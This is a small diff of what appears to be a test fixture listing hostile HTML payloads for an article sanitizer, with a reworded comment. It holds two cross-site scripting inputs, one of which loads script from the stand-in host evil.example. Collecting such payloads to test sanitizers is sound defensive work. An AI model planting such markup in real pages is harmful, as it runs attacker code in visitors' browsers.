@@ -1,4 +1,4 @@
-/** What attackers write into articles (S2): sanitizer bypasses of the past, and the plain attempts. */
+/** Attacks on article markup (S2): known sanitizer bypasses and the plain attempts. */
 export const HOSTILE_MARKUP: [name: string, html: string][] = [
   ['script', '<script>alert(1)</script>'],
   ['script in mixed case', '<ScRiPt src=//evil.example/x.js></sCrIpT >'],
